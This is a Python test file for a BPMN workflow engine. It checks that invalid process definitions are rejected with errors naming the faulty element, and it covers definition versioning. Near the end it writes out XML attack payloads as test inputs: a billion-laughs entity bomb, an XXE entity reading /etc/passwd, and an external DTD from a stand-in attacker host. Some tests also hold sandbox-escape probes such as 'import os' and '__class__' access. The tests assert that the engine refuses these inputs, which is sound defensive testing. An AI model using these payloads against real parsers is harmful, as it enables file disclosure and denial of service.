"""Deploying definitions: every problem is reported with the element at fault; versions."""
from __future__ import annotations

import pytest

from engine.errors import DefinitionInvalid, NotFound
from engine.ports import StartRequest
from engine.store import Status

from .support import bpmn

HEAD = ('<?xml version="1.0" encoding="UTF-8"?>\n'
        '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" '
        'xmlns:marshrut="http://marshrut.dev/schema/bpmn/1.0" id="D" targetNamespace="t">')


def process(body: str, *, attrs: str = 'isExecutable="true"', before: str = "") -> str:
    return f'{HEAD}{before}<bpmn:process id="p" {attrs}>{body}</bpmn:process></bpmn:definitions>'


def flow(fid: str, src: str, dst: str, cond: str | None = None) -> str:
    inner = f"<bpmn:conditionExpression>{cond}</bpmn:conditionExpression>" if cond else ""
    return f'<bpmn:sequenceFlow id="{fid}" sourceRef="{src}" targetRef="{dst}">{inner}' \
           f'</bpmn:sequenceFlow>'


def chain(*middle: str) -> str:
    """start → middle elements (each given as XML with ids T1, T2 …) → end."""
    ids = [f"T{i}" for i in range(1, len(middle) + 1)]
    nodes = ["S", *ids, "E"]
    pairs = zip(nodes, nodes[1:], strict=False)
    flows = "".join(flow(f"F{i}", a, b) for i, (a, b) in enumerate(pairs, 1))
    return '<bpmn:startEvent id="S"/>' + "".join(middle) + '<bpmn:endEvent id="E"/>' + flows


def errors_of(engine, db, xml, dmn=()):
    with pytest.raises(DefinitionInvalid) as info:
        engine.deploy(db, xml, dmn)
    return [(e.element_id, e.message) for e in info.value.errors]


def test_valid_definitions_deploy_and_validate_clean(engine, db):
    for name in ("routing.bpmn", "parallel.bpmn", "inclusive.bpmn", "event_gateway.bpmn",
                 "multi_start.bpmn"):
        assert engine.validate(bpmn(name), session=db) == []
    d = engine.deploy(db, bpmn("routing.bpmn"), deployed_by=5)
    assert (d.key, d.version, d.name, d.active, d.deployed_by) == (
        "deal_routing", 1, "Deal routing", True, 5)
    assert (d.triggers, d.manual_start, d.priority, d.variables) == (
        ["deal.created"], False, 10, {"threshold": "1000000"})


@pytest.mark.parametrize("task,element,message", [
    ('<bpmn:userTask id="T1"/>', "T1", "has no assignment"),
    ('<bpmn:userTask id="T1" marshrut:assignment="boss"/>', "T1", "unknown assignment 'boss'"),
    ('<bpmn:userTask id="T1" marshrut:assignment="role"/>', "T1", "needs marshrut:assignee"),
    ('<bpmn:userTask id="T1" marshrut:assignment="role" marshrut:assignee="pilot"/>', "T1",
     "assignment: unknown role 'pilot'"),
    ('<bpmn:userTask id="T1" marshrut:assignment="responsible" marshrut:due="2 hours"/>', "T1",
     "not an ISO 8601 duration"),
    ('<bpmn:userTask id="T1" marshrut:assignment="responsible" marshrut:priority="urgent"/>',
     "T1", "low, normal or high"),
    ('<bpmn:userTask id="T1" marshrut:assignment="responsible"><bpmn:extensionElements>'
     '<marshrut:formField name="pick" type="enum"/></bpmn:extensionElements></bpmn:userTask>',
     "T1", "needs marshrut:option"),
    ('<bpmn:userTask id="T1" marshrut:assignment="responsible"><bpmn:extensionElements>'
     '<marshrut:formField name="1st" type="string"/></bpmn:extensionElements></bpmn:userTask>',
     "T1", "must be a letter"),
    ('<bpmn:userTask id="T1" marshrut:assignment="responsible"><bpmn:extensionElements>'
     '<marshrut:instructions>Hi {{deal.__class__}}</marshrut:instructions>'
     '</bpmn:extensionElements></bpmn:userTask>', "T1", "placeholder"),
    ('<bpmn:serviceTask id="T1" marshrut:operation="crm.nope"/>', "T1",
     "unknown operation 'crm.nope' (known: test.assign)"),
    ('<bpmn:serviceTask id="T1"/>', "T1", "has no operation"),
    ('<bpmn:serviceTask id="T1" marshrut:operation="test.assign"><bpmn:extensionElements>'
     '<marshrut:parameter name="user" value="a@b"/><marshrut:parameter name="deal" value="x"/>'
     '</bpmn:extensionElements></bpmn:serviceTask>', "T1", "parameter 'deal': 'x' is not an "
                                                          "integer"),
    ('<bpmn:serviceTask id="T1" marshrut:operation="test.assign"><bpmn:extensionElements>'
     '<marshrut:parameter name="user" value="a@b"/></bpmn:extensionElements>'
     '</bpmn:serviceTask>', "T1", "needs parameter 'deal'"),
    ('<bpmn:serviceTask id="T1" marshrut:operation="test.assign"><bpmn:extensionElements>'
     '<marshrut:parameter name="user" value="a@b"/><marshrut:parameter name="deal" '
     'expression="deal.id +"/><marshrut:parameter name="colour" value="red"/>'
     '</bpmn:extensionElements></bpmn:serviceTask>', "T1", "has no parameter 'colour'"),
    ('<bpmn:scriptTask id="T1"><bpmn:script>import os</bpmn:script></bpmn:scriptTask>', "T1",
     "'Import' is not allowed"),
    ('<bpmn:scriptTask id="T1"/>', "T1", "has no script"),
    ('<bpmn:businessRuleTask id="T1" marshrut:decision="nope"/>', "T1",
     "decision 'nope' is not in the uploaded DMN files"),
    ('<bpmn:subProcess id="T1"/>', "T1", "sub-process T1 has no start event"),
    ('<bpmn:sendTask id="T1"/>', "T1", "bpmn:sendTask T1 refers to no bpmn:message"),
    ('<bpmn:transaction id="T1"/>', "T1", "element T1 of type bpmn:transaction is not "
                                          "supported"),
    ('<bpmn:intermediateCatchEvent id="T1"><bpmn:signalEventDefinition/>'
     '</bpmn:intermediateCatchEvent>', "T1", "the signal event T1 refers to no bpmn:signal"),
    ('<bpmn:intermediateCatchEvent id="T1"><bpmn:linkEventDefinition/>'
     '</bpmn:intermediateCatchEvent>', "T1", "with bpmn:linkEventDefinition is not supported"),
    ('<bpmn:intermediateThrowEvent id="T1"><bpmn:compensateEventDefinition/>'
     '</bpmn:intermediateThrowEvent>', "T1", "compensation is not supported"),
    ('<bpmn:intermediateCatchEvent id="T1"><bpmn:conditionalEventDefinition><bpmn:condition>'
     'deal.__class__</bpmn:condition></bpmn:conditionalEventDefinition>'
     '</bpmn:intermediateCatchEvent>', "T1", "condition"),
    ('<bpmn:intermediateCatchEvent id="T1"><bpmn:timerEventDefinition/>'
     '</bpmn:intermediateCatchEvent>', "T1", "the timer needs exactly one of timeDuration"),
    ('<bpmn:userTask id="T1" marshrut:assignment="responsible"><bpmn:multiInstanceLoopCharact'
     'eristics/></bpmn:userTask>', "T1", "needs exactly one of loopCardinality"),
    ('<bpmn:userTask id="T1" marshrut:assignment="responsible"><bpmn:multiInstanceLoopCharact'
     'eristics><bpmn:loopDataInputRef>deal.rows</bpmn:loopDataInputRef>'
     '</bpmn:multiInstanceLoopCharacteristics></bpmn:userTask>', "T1",
     "must name a variable of the data"),
    ('<bpmn:userTask id="T1" marshrut:assignment="responsible"><bpmn:multiInstanceLoopCharact'
     'eristics><bpmn:loopDataInputRef>rows</bpmn:loopDataInputRef>'
     '</bpmn:multiInstanceLoopCharacteristics></bpmn:userTask>', "T1",
     "needs an inputDataItem"),
    ('<bpmn:scriptTask id="T1"><bpmn:script>x = 1</bpmn:script>'
     '<bpmn:standardLoopCharacteristics/></bpmn:scriptTask>', "T1", "needs loopMaximum"),
    ('<bpmn:callActivity id="T1"/>', "T1", "names no process (calledElement)"),
])
def test_each_problem_names_its_element(engine, db, task, element, message):
    errors = errors_of(engine, db, process(chain(task)))
    assert any(eid == element and message in msg for eid, msg in errors), errors


def test_bad_condition_syntax_names_the_flow(engine, db):
    body = ('<bpmn:startEvent id="S"/><bpmn:exclusiveGateway id="G" default="F3"/>'
            '<bpmn:endEvent id="E1"/><bpmn:endEvent id="E2"/>' + flow("F1", "S", "G")
            + flow("F2", "G", "E1", "deal.amount &gt;&gt;&gt; 5") + flow("F3", "G", "E2"))
    assert errors_of(engine, db, process(body)) == [
        ("F2", "condition of flow F2: syntax error: invalid syntax")]


def test_gateway_flow_without_condition_and_condition_on_task_flow(engine, db):
    body = ('<bpmn:startEvent id="S"/><bpmn:exclusiveGateway id="G"/>'
            '<bpmn:endEvent id="E1"/><bpmn:endEvent id="E2"/>' + flow("F1", "S", "G", "x")
            + flow("F2", "G", "E1", "x") + flow("F3", "G", "E2") + flow("F4", "G", "Nowhere"))
    errors = errors_of(engine, db, process(body))
    assert ("F1", "sequence flow F1 has a condition but leaves a bpmn:startEvent; only "
                  "gateway flows may have conditions") in errors
    assert ("F3", "flow F3 leaves gateway G without a condition and is not its default flow"
            ) in errors
    assert ("F4", "sequence flow F4 must connect two elements of the process") in errors


def test_every_problem_is_listed_at_once(engine, db):
    xml = process(chain('<bpmn:userTask id="T1"/>', '<bpmn:serviceTask id="T2" '
                        'marshrut:operation="x.y"/>', '<bpmn:manualTask id="T3"/>'))
    with pytest.raises(DefinitionInvalid) as info:
        engine.deploy(db, xml)
    assert [e.element_id for e in info.value.errors] == ["T1", "T2", "T3"]
    assert set(info.value.fields) == {"T1", "T2", "T3"}
    assert info.value.status == 422
    assert all(e.line == 2 for e in info.value.errors)  # the line in the uploaded file


def test_missing_ids_and_duplicates_and_reserved_ids(engine, db):
    body = ('<bpmn:startEvent id="S"/><bpmn:userTask marshrut:assignment="responsible"/>'
            '<bpmn:endEvent id="S"/><bpmn:endEvent id="End"/>')
    errors = errors_of(engine, db, process(body))
    assert ("", "bpmn:userTask on line 2 has no id") in errors
    assert ("S", "id 'S' is used twice") in errors
    assert ("End", "id 'End' is reserved by the engine; rename the element") in errors


def test_process_level_problems(engine, db):
    assert errors_of(engine, db, process(chain(), attrs='isExecutable="false"')) == [
        ("p", 'no executable process (p); set isExecutable="true"')]
    assert engine.validate(process(chain(), attrs='isExecutable="false"'))[0].line == 2
    two = HEAD + ('<bpmn:process id="a" isExecutable="true"/>'
                  '<bpmn:process id="b" isExecutable="true"/></bpmn:definitions>')
    assert "several executable processes (a, b)" in errors_of(engine, db, two)[0][1]
    assert errors_of(engine, db, process('<bpmn:endEvent id="E"/>')) == [
        ("p", "the process has no start event")]
    bad_vars = process(chain(), attrs='isExecutable="true" marshrut:priority="high"',
                       ).replace('<bpmn:startEvent', '<bpmn:extensionElements><marshrut:variable'
                                 ' name="limit" type="decimal" value="lots"/>'
                                 '</bpmn:extensionElements><bpmn:startEvent', 1)
    assert sorted(errors_of(engine, db, bad_vars)) == [
        ("p", "marshrut:priority must be an integer, not 'high'"),
        ("p", "variable 'limit': 'lots' is not a decimal number")]


def test_message_start_event_needs_a_named_message(engine, db):
    body = ('<bpmn:startEvent id="S"><bpmn:messageEventDefinition messageRef="M"/>'
            '</bpmn:startEvent><bpmn:endEvent id="E"/>' + flow("F", "S", "E"))
    assert errors_of(engine, db, process(body)) == [
        ("S", "the message event S refers to no bpmn:message")]
    named = process(body, before='<bpmn:message id="M"/>')
    assert errors_of(engine, db, named) == [
        ("S", "bpmn:message M has no name (the CRM event, e.g. deal.created)")]


BOMB = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">&lol9;</bpmn:definitions>"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">
<bpmn:process id="p" name="&xxe;" isExecutable="true"/></bpmn:definitions>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE bpmn:definitions SYSTEM "http://attacker.example/evil.dtd">
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"/>"""


@pytest.mark.parametrize("xml,message", [
    (BOMB, "must not contain a DOCTYPE"),
    (EXTERNAL_ENTITY, "must not contain a DOCTYPE"),
    (EXTERNAL_DTD, "must not contain a DOCTYPE"),
    ("this is not XML", "is not well-formed XML"),
    ("<bpmn:definitions", "is not well-formed XML"),
    ("", "the BPMN file is empty"),
    ("   \n", "the BPMN file is empty"),
    (b"\xff\xfe\x00garbage", "XML"),
    ("<html><body>hi</body></html>", "root element must be bpmn:definitions"),
    (HEAD + "</bpmn:definitions>", "the file has no bpmn:process"),
])
def test_unsafe_or_broken_xml_is_refused(engine, db, xml, message):
    errors = errors_of(engine, db, xml)
    assert len(errors) == 1 and message in errors[0][1], errors


def test_unsafe_dmn_is_refused_too(engine, db):
    errors = errors_of(engine, db, bpmn("dmn_routing.bpmn"), [BOMB.replace("bpmn:", "")])
    assert ("", "DMN file 1 must not contain a DOCTYPE, entities or external references "
                "(DTDForbidden)") in errors


def test_dmn_with_a_broken_cell_names_the_rule(engine, db):
    dmn = bpmn("approver_role.dmn").replace("&lt; 1000000", "&lt;&lt; 1000000 )")
    errors = errors_of(engine, db, bpmn("dmn_routing.bpmn"), [dmn])
    assert errors == [("R_small", "rule 3 of decision Table_route: cell '<< 1000000 )' is not "
                                  "a valid test")]


# ------------------------------------------------------------------------ versions

def test_new_version_becomes_active_and_running_instances_keep_theirs(engine, db):
    v1 = engine.deploy(db, bpmn("routing.bpmn"))
    inst = engine.start(db, v1, StartRequest({"deal": {"amount": "2000000", "title": "A"}},
                                             message="deal.created"))
    renamed = bpmn("routing.bpmn").replace('name="Approve the deal"', 'name="Approve (v2)"')
    v2 = engine.deploy(db, renamed)
    assert (v1.active, v2.active, v2.version) == (False, True, 2)
    [task] = engine.tasks(db, instance_id=inst.id)
    assert task.name == "Approve the deal"
    engine.complete(db, task.id, 10, {"decision": "reject"})
    assert (inst.status, inst.definition_id) == (Status.COMPLETED, v1.id)
    new = engine.start(db, v2, StartRequest({"deal": {"amount": "2000000", "title": "B"}},
                                            message="deal.created"))
    assert engine.tasks(db, instance_id=new.id)[0].name == "Approve (v2)"
    # the spec is stored once per definition version; instances carry only their state
    assert list(v1.specs) == [engine.serializer.version]
    assert "spec" not in inst.state and "subprocess_specs" not in inst.state


def test_activate_deactivate_and_inactive_definitions_do_not_start(engine, db):
    engine.deploy(db, bpmn("routing.bpmn"))
    engine.deploy(db, bpmn("routing.bpmn"), activate=False)
    assert [d.version for d in engine.definitions(db, "deal_routing", active=True)] == [1]
    engine.activate(db, "deal_routing", 2)
    assert [d.version for d in engine.definitions(db, active=True)] == [2]
    engine.deactivate(db, "deal_routing")
    assert engine.definitions_for_message(db, "deal.created") == []
    with pytest.raises(NotFound):
        engine.activate(db, "deal_routing", 7)
    with pytest.raises(Exception, match="is not active"):
        engine.start(db, engine.definitions(db)[0], StartRequest({}, message="deal.created"))


def test_definitions_for_message_are_ordered_by_priority_then_key(engine, db):
    engine.deploy(db, bpmn("routing.bpmn"))          # priority 10
    engine.deploy(db, bpmn("multi_start.bpmn"))      # priority 5
    engine.deploy(db, bpmn("event_gateway.bpmn"))    # default 100
    assert [d.key for d in engine.definitions_for_message(db, "deal.created")] == [
        "welcome", "deal_routing", "deal_outcome"]
    assert [d.key for d in engine.definitions_for_message(db, "lead.created")] == ["welcome"]
    assert engine.definitions_for_message(db, "task.created") == []
